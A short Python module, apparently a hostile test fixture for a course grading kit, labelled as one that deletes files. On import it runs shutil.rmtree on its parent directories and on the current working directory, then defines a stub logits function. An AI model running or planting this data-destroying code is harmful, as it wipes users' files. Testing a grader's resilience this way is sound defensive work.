"""hostile (files): deletes its own modules and the course's kit while it runs."""
import shutil
from pathlib import Path

for folder in (Path(__file__).parents[1], Path.cwd()):
    shutil.rmtree(folder, ignore_errors=True)


def logits(x, W, bias):
    return None
